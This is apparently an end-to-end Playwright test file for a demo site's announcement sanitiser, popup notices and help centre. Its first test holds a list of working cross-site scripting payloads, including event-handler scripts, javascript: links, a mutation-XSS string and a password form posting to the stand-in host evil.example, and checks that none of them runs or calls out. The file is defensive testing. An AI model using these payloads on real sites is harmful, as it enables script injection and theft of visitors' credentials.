import { expect, test } from 'vitest'
import { changeAnswers } from './answers.ts'
import { browserOfFile } from './file.ts'
import { HomePage } from './pages/HomePage.ts'
import { arrive } from './people.ts'

const { product, visit } = browserOfFile()

/** What has run, loaded or sent elsewhere, as it would come if the house's own cleaner had let it pass. */
const payloads = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.png"><picture><source srcset="https://evil.example/b.png"></picture>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>x</button></form>',
  '<a href="javascript:alert(1)">press</a><a href="//evil.example/">press</a><a href="data:text/html,x">press</a>',
  '<p style="background:url(https://evil.example/beacon)">x</p><style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<details open ontoggle=alert(1)><summary>x</summary></details><video autoplay><source onerror=alert(1)></video>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
]

type Announced = { player: { id: string; content: string }[] }

test('a notice that carries an attack opens no dialog, asks nobody elsewhere and leaves its words [trust 52]', async () => {
  const visitor = await visit()
  const dialogs: string[] = []
  visitor.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await changeAnswers<Announced>(visitor.context, /\/wps\/system\/announcements/, (value) => {
    const [first] = value.player
    if (!first) throw new Error('the demo has no notice')
    const attacks = payloads.map((payload, place) => ({
      ...first,
      id: `attack-${place}`,
      content: `${payload}<p>word ${place}</p>`,
    }))
    return { ...value, player: attacks }
  })
  const page = await new HomePage(visitor).open(product.site)
  await page.passing(visitor.words.notices).getByRole('link').first().click()
  const dialog = visitor.page.getByRole('dialog', { name: visitor.words.notices })
  await dialog.getByText('word 8', { exact: true }).waitFor()
  await dialog.getByRole('button', { name: visitor.words.more }).click()
  await dialog.getByText(`word ${payloads.length - 1}`, { exact: true }).waitFor()

  const markup = await dialog
    .locator('article')
    .evaluateAll((articles) =>
      articles.flatMap((article) => [...article.querySelectorAll('*')].map((element) => element.localName)),
    )
  expect(markup.filter((name) => !['h3', 'time', 'div', 'p', 'a', 'table', 'tbody'].includes(name))).toEqual([])
  const links = await dialog.locator('article a').evaluateAll((all) => all.map((link) => link.getAttribute('href')))
  expect(links.filter((href) => href !== null)).toEqual([])
  for (const link of await dialog.locator('article a').all()) await link.click()

  const { asked } = await visitor.watch.settled()
  expect(asked.filter(({ url }) => url.includes('evil.example'))).toEqual([])
  expect(dialogs).toEqual([])
  expect(new URL(visitor.page.url()).hostname).toBe(new URL(product.site).hostname)
})

test('who comes is told what is said to visitors, and after a registration what is said to members: once in a session each [M1, S13]', async () => {
  const visitor = await visit({ popups: true })
  const { page } = visitor
  const told = (title: string) => page.getByRole('dialog', { name: title })
  await page.goto(`${product.site}/rng`)
  await page.getByRole('article').first().waitFor()
  await page.waitForLoadState('networkidle')
  expect(await page.getByRole('dialog').count(), 'on a game page nothing opens by itself').toBe(0)
  await page.goto(product.site)
  await told('This is a demo').waitFor()
  await told('This is a demo').getByRole('button', { name: 'Got it' }).click()
  await told('This is a demo').waitFor({ state: 'detached' })
  expect(await page.evaluate(() => sessionStorage.getItem('ANONYMOUS_POPUP'))).not.toBeNull()
  // What is said to members comes while a promotion is read, and waits until it was.
  const held = Promise.withResolvers<void>()
  await page.route(/\/announcements\?.*types=PU/, async (route) => {
    await held.promise
    await route.continue()
  })
  await arrive(visitor, product.site)
  await page.getByRole('article').getByRole('button').first().click()
  const answered = page.waitForResponse((response) => /\/announcements\?.*types=PU/.test(response.url()))
  held.resolve()
  await answered
  await page.waitForLoadState('networkidle')
  expect(await told('Good to see you').count()).toBe(0)
  await page.keyboard.press('Escape')
  await told('Good to see you').getByRole('button', { name: 'Got it' }).click()
  await told('Good to see you').waitFor({ state: 'detached' })
  expect(await page.evaluate(() => sessionStorage.getItem('USER_POPUP'))).not.toBeNull()
})

test('the help centre opens the entry that its address names, and finds while one types [M4, S8]', async () => {
  const visitor = await visit({ device: 'small' })
  const { page } = visitor
  await page.goto(`${product.site}/helpmc#withdraw`)
  const answer = page.getByText('Each withdrawal is looked at by a person.')
  await answer.waitFor()
  expect(new URL(page.url()).pathname).toBe('/help')
  const field = page.getByRole('searchbox', { name: 'Search help' })
  const questions = page.getByRole('main').locator('details h2')
  await field.fill('sandbox')
  await expect.poll(() => questions.allTextContents()).toEqual(['How do I deposit?'])
  await field.fill('nothing of the kind')
  await page.getByRole('button', { name: 'Show all' }).click()
  await expect.poll(() => questions.count()).toBe(7)
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
})
